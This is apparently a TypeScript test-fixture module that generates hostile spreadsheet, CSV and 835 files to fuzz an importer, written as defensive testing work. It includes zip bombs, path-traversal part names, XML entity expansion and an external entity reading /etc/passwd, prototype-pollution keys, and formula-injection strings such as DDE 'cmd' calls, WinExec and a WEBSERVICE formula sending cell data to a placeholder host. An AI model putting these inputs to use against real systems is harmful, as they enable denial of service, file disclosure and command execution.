/** Files made to do harm: bombs, path tricks, entities, nesting, wrong counts, huge dimensions, names of JavaScript's own, formulas that call out. */
import { constants, crc32, deflateRawSync } from 'node:zlib';
import { edited, workbookWith } from '../host/files/fixture';
import type { FuzzedFile } from './mutate';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const row = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>';
const plain = (): Uint8Array => workbookWith(row);
const cells = (content: string): string => `<sheetData><row r="1">${content}</row></sheetData>`;

interface RawPart {
  readonly name: string;
  readonly packed: Uint8Array;
  readonly method: 0 | 8;
  readonly size: number;
  readonly crc?: number;
}

/** A zip as told, whether that is sound or not; `count` is what its directory claims. */
function zipOf(parts: readonly RawPart[], count = parts.length): Uint8Array {
  const chunks: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, packed, method, size, crc = 0 } of parts) {
    const title = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(title.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(title.length, 28);
    central.writeUInt32LE(at, 42);
    chunks.push(local, title, Buffer.from(packed));
    directory.push(central, title);
    at += 30 + title.length + packed.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count & 0xffff, 8);
  end.writeUInt16LE(count & 0xffff, 10);
  end.writeUInt32LE(Buffer.concat(directory).length, 12);
  end.writeUInt32LE(at, 16);
  return new Uint8Array(Buffer.concat([...chunks, ...directory, end]));
}

const deflated = (name: string, text: string): RawPart => {
  const bytes = Buffer.from(text);
  return { name, packed: deflateRawSync(bytes), method: 8, size: bytes.length, crc: crc32(bytes) };
};

/** The parts of a plain workbook, some of them others; more may come after. */
function withParts(changes: Readonly<Record<string, RawPart | string>>, more: readonly RawPart[] = []): Uint8Array {
  const names = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'];
  const parts = new Map(Object.entries(partsOfPlain()));
  const raw = names.map((name) => {
    const change = changes[name];
    return typeof change === 'object' ? change : deflated(name, change ?? parts.get(name) ?? '');
  });
  return zipOf([...raw, ...more]);
}

function partsOfPlain(): Record<string, string> {
  const found: Record<string, string> = {};
  const keep = (name: string) => (text: string) => {
    found[name] = text;
    return `${text} `;
  };
  const names = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'];
  edited(plain(), Object.fromEntries(names.map((name) => [name, keep(name)])));
  return found;
}

/** Unpacks to so many megabytes of one character between a beginning and an end: one block of a megabyte, repeated. */
function bombPart(name: string, megabytes: number, filler: string, [before, after]: readonly [string, string]): RawPart {
  const block = (text: string): Buffer => deflateRawSync(Buffer.from(text), { finishFlush: constants.Z_SYNC_FLUSH });
  const middle = block(filler.repeat(Math.floor(1_048_576 / filler.length)));
  const packed = Buffer.concat([stored(before), ...Array.from({ length: megabytes }, () => middle), stored(after), Buffer.from([1, 0, 0, 0xff, 0xff])]);
  const size = before.length + after.length + megabytes * Math.floor(1_048_576 / filler.length) * filler.length;
  return { name, packed, method: 8, size };
}
function stored(text: string): Buffer {
  const length = Buffer.alloc(5);
  length.writeUInt16LE(text.length, 1);
  length.writeUInt16LE(~text.length & 0xffff, 3);
  return Buffer.concat([length, Buffer.from(text)]);
}
const SHEET = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">';
const DOCTYPE = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';
const OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const afterHead =
  (what: string) =>
  (text: string): string =>
    text.replace('?>', `?>${what}`);
const PARTS = ['xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml', '_rels/.rels'] as const;
const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth);

type Made = readonly [what: string, bytes: () => Uint8Array, name?: string];

const BOMBS: readonly Made[] = [
  [
    'a sheet of 2 GB of blanks',
    () => withParts({ 'xl/worksheets/sheet1.xml': bombPart('xl/worksheets/sheet1.xml', 2_000, ' ', [`${SHEET}<sheetData>`, '</sheetData></worksheet>']) }),
  ],
  [
    'a row of 60 MB that never ends',
    () => withParts({ 'xl/worksheets/sheet1.xml': bombPart('xl/worksheets/sheet1.xml', 60, ' ', [`${SHEET}<sheetData><row `, '']) }),
  ],
  [
    'a text of 60 MB that never ends',
    () =>
      withParts({
        'xl/sharedStrings.xml': bombPart('xl/sharedStrings.xml', 60, 'a', [
          '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>',
          '',
        ]),
      }),
  ],
  ['a list of sheets of 500 MB', () => withParts({ 'xl/workbook.xml': bombPart('xl/workbook.xml', 500, ' ', ['<workbook>', '</workbook>']) })],
  ['relationships of 500 MB', () => withParts({ '_rels/.rels': bombPart('_rels/.rels', 500, ' ', ['<Relationships>', '</Relationships>']) })],
  ['one sheet part of 60 MB for 400 sheets', manySheets],
  ['65,000 empty parts', () => zipOf(Array.from({ length: 65_000 }, (_, i) => ({ name: `p${i}`, packed: new Uint8Array(0), method: 0, size: 0 })))],
];

function manySheets(): Uint8Array {
  const sheets = Array.from({ length: 400 }, (_, i) => `<sheet name="S${i}" sheetId="${i + 1}" r:id="rId1"/>`).join('');
  const workbook = (partsOfPlain()['xl/workbook.xml'] ?? '').replace(/<sheets>.*<\/sheets>/, `<sheets>${sheets}</sheets>`);
  return withParts({
    'xl/workbook.xml': workbook,
    'xl/worksheets/sheet1.xml': bombPart('xl/worksheets/sheet1.xml', 60, ' ', [`${SHEET}<sheetData>`, '</sheetData></worksheet>']),
  });
}

const PATHS: readonly Made[] = [
  ...['../../evil.xml', '/xl/../../evil.xml', 'C:\\evil.xml', '..\\evil.xml', 'xl/\u0000evil.xml', '__proto__', 'constructor'].map((name): Made => [
    `a part named ${JSON.stringify(name)}`,
    () => withParts({}, [deflated(name, 'evil')]),
  ]),
  ['the same part twice', () => withParts({}, [deflated('xl/worksheets/sheet1.xml', 'other')])],
  ['the same part twice, in other case', () => withParts({}, [deflated('XL/Worksheets/SHEET1.xml', 'other')])],
  ...[
    '../../../../etc/passwd',
    'file:///etc/passwd',
    'http://example.invalid/sheet.xml',
    '/etc/passwd',
    '\\\\server\\share\\sheet.xml',
    '%2e%2e/%2e%2e/etc/passwd',
  ].map((target): Made => [
    `a sheet at ${target}`,
    () => edited(plain(), { 'xl/_rels/workbook.xml.rels': (text) => text.replace('worksheets/sheet1.xml', target) }),
  ]),
];

const XML: readonly Made[] = [
  ...PARTS.flatMap((part): Made[] => [
    [`entities that grow in ${part}`, () => edited(plain(), { [part]: afterHead(DOCTYPE) })],
    [`an outside entity in ${part}`, () => edited(plain(), { [part]: afterHead(OUTSIDE) })],
    [`100,000 elements deep in ${part}`, () => edited(plain(), { [part]: (text) => text.replace(/<\/(\w+)>\s*$/, `${nested(100_000)}</$1>`) })],
    [`an unknown entity in ${part}`, () => edited(plain(), { [part]: (text) => text.replace(/<\/(\w+)>\s*$/, '&lol;</$1>') })],
  ]),
  ['100,000 elements deep in a row', () => workbookWith(cells(nested(100_000)))],
  ['100,000 elements deep in a cell', () => workbookWith(cells(`<c r="A1" t="inlineStr"><is>${nested(100_000)}</is></c>`))],
  ['100,000 attributes', () => workbookWith(`<x ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>${row}`)],
  [
    '5,000 namespaces and 20,000 elements that name another',
    () =>
      workbookWith(
        `<x ${Array.from({ length: 5_000 }, (_, i) => `xmlns:n${i}="u"`).join(' ')}>${Array.from({ length: 20_000 }, (_, i) => `<y xmlns:m${i}="v"/>`).join('')}</x>${row}`,
      ),
  ],
];

const NUMBERS: readonly Made[] = [
  ['a directory that claims more parts', () => zipOf([deflated('a', 'b')], 9)],
  ['a directory that claims fewer parts', () => zipOf([deflated('a', 'b'), deflated('c', 'd')], 1)],
  ['a part smaller than it says', () => withParts({ 'xl/workbook.xml': { ...deflated('xl/workbook.xml', '<workbook/>'), size: 1_000_000_000 } })],
  ['a part larger than it says', () => withParts({ 'xl/workbook.xml': { ...deflated('xl/workbook.xml', partsOfPlain()['xl/workbook.xml'] ?? ''), size: 3 } })],
  ['texts that are counted wrongly', () => workbookWith(cells('<c r="A1" t="s"><v>0</v></c>'), { sharedStrings: '<si><t>a</t></si>' })],
  ['a text that is not there', () => workbookWith(cells('<c r="A1" t="s"><v>4294967295</v></c>'))],
  ['a text at place __proto__', () => workbookWith(cells('<c r="A1" t="s"><v>__proto__</v></c>'), { sharedStrings: '<si><t>a</t></si>' })],
  ['a format that is not there', () => workbookWith(cells('<c r="A1" s="65535"><v>1</v></c>'))],
  ...['0', '-1', '1048577', '1e9', 'NaN', '', '1.5', '99999999999999999999'].map((at): Made => [
    `row ${at}`,
    () => workbookWith(`<sheetData><row r="${at}"><c><v>1</v></c></row></sheetData>`),
  ]),
  ...['XFE1', 'A0', 'ZZZZZZZZZZ1', '1', 'A1048577', 'a1', 'XFD1048576'].map((at): Made => [
    `cell ${at}`,
    () => workbookWith(cells(`<c r="${at}"><v>1</v></c>`)),
  ]),
  [
    'a cell in each corner',
    () =>
      workbookWith(
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
      ),
  ],
  ['30,000 lists of all columns', () => workbookWith(`<cols>${'<col min="1" max="16384" width="9" hidden="1"/>'.repeat(30_000)}</cols>${row}`)],
  ['columns without an end', () => workbookWith(`<cols><col min="-1e9" max="1e99" width="1e308"/></cols>${row}`)],
  ['merged cells over the whole sheet, 5,000 times', () => workbookWith(`${row}<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(5_000)}</mergeCells>`)],
  [
    'a rule over 50,000 areas',
    () =>
      workbookWith(
        `${row}<conditionalFormatting sqref="${'A1:XFD1048576 '.repeat(50_000)}"><cfRule type="expression" dxfId="999999999" priority="1"><formula>A1</formula></cfRule></conditionalFormatting>`,
      ),
  ],
];

const formula = (text: string): Uint8Array => workbookWith(cells(`<c r="A1"><f>${text}</f></c><c r="B1"><v>1</v></c>`));
const FORMULAS: readonly Made[] = [
  ...[
    'WEBSERVICE("http://example.invalid/?"&amp;B1)',
    'HYPERLINK("http://example.invalid/","x")',
    "cmd|'/C calc'!A0",
    "'http://example.invalid/[x.xlsx]S'!A1",
    "'\\\\server\\share\\[x.xlsx]S'!A1",
    'IMAGE("http://example.invalid/a.png")',
    'RTD("prog","server","topic")',
    'INDIRECT("\'[x.xlsx]S\'!A1")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'EXEC("calc")',
    'SUM(A1:XFD1048576)',
    'SUMPRODUCT((A:XFD=1)*(A:XFD=1))',
    'REPT("x",1E9)',
    'REPT(REPT("x",32767),32767)',
    'A1',
    'FACT(1E9)',
    `${'('.repeat(2_000)}1${')'.repeat(2_000)}`,
    `${'SUM('.repeat(500)}1${')'.repeat(500)}`,
    '-'.repeat(8_000) + '1',
    '1+'.repeat(8_000) + '1',
    '{1,2;3,4',
    'LAMBDA(f,f(f))(LAMBDA(f,f(f)))',
    '__proto__',
    'constructor()',
  ].map((text): Made => [`the formula ${text.slice(0, 50)}`, () => formula(text)]),
  [
    'a ring of 5,000 formulas',
    () =>
      workbookWith(
        `<sheetData>${Array.from({ length: 5_000 }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}"><f>A${((i + 1) % 5_000) + 1}+1</f></c></row>`).join('')}</sheetData>`,
      ),
  ],
  [
    'a chain of 5,000 formulas',
    () =>
      workbookWith(
        `<sheetData>${Array.from({ length: 5_000 }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}"><f>A${i + 2}+1</f></c></row>`).join('')}</sheetData>`,
      ),
  ],
];

const named = (xml: string): Uint8Array => workbookWith(row, { workbook: xml });
const NAMES: readonly Made[] = [
  ...['__proto__', 'constructor', 'hasOwnProperty', 'toString', ''].flatMap((name): Made[] => [
    [`a sheet named ${name}`, () => edited(plain(), { 'xl/workbook.xml': (text) => text.replace('"Sheet1"', `"${name}"`) })],
    [`a name ${name}`, () => named(`<definedNames><definedName name="${name}">Sheet1!$A$1</definedName></definedNames>`)],
  ]),
  ['an attribute __proto__', () => workbookWith(`<sheetPr __proto__="x" constructor="y"/>${row}`)],
  [
    'two sheets of one name',
    () => edited(plain(), { 'xl/workbook.xml': (text) => text.replace('</sheets>', '<sheet name="SHEET1" sheetId="2" r:id="rId1"/></sheets>') }),
  ],
];

const csv = (what: string, text: string, name = 'a.csv'): Made => [what, () => utf8(text), name];
const TEXTS: readonly Made[] = [
  csv('headings of JavaScript', '__proto__,constructor,Account,Balance\n1,2,3,4\n'),
  csv('a quote that never ends', `Account,Balance\n"${'x'.repeat(3_000_000)}`),
  csv('3,000,000 commas', ','.repeat(3_000_000)),
  csv('500,000 blank lines', '\n'.repeat(500_000)),
  csv('a line of 10 MB', 'x'.repeat(10_000_000)),
  csv('quotes without a text', '"'.repeat(1_000_001)),
  csv('cells that look like formulas', 'Account,Balance\n=cmd|"/C calc"!A0,-5\n@SUM(1),+5\n'),
  csv('lone surrogates', 'Account\n\ud800\n'),
  ['UTF-16 that is cut', () => Uint8Array.from([0xff, 0xfe, 0x41, 0x00, 0x42]), 'a.csv'],
  ['zeros', () => new Uint8Array(100_000), 'a.csv'],
  csv('an 835 of one segment', 'ISA*', 'a.835'),
  csv('an 835 without marks', `ISA${'*'.repeat(1_000_000)}ST*835*1~CLP*1`, 'a.835'),
  csv('an 835 of 200,000 envelopes', `${'ISA*00*~'.repeat(200_000)}ST*835*1~CLP*A*1*5*5~`, 'a.835'),
  csv('an 835 of claims named __proto__', `ST*835*1~${'CLP*__proto__*1*1e999*-5**12*constructor~CAS*CO*45*NaN~'.repeat(2_000)}`, 'a.835'),
  csv('an 835 of blanks', `${' '.repeat(2_000_000)}ISA*`, 'a.835'),
  csv('an 835 of 1,000,000 segments', `ST*835*1~CLP*A*1*5*5~${'CAS*CO*45*1~'.repeat(300_000)}`, 'a.835'),
];

export const HOSTILE: readonly Made[] = [...BOMBS, ...PATHS, ...XML, ...NUMBERS, ...FORMULAS, ...NAMES, ...TEXTS];
export const hostileFile = ([what, bytes, name = 'a.xlsx']: Made): FuzzedFile => ({ what, name, bytes: bytes() });
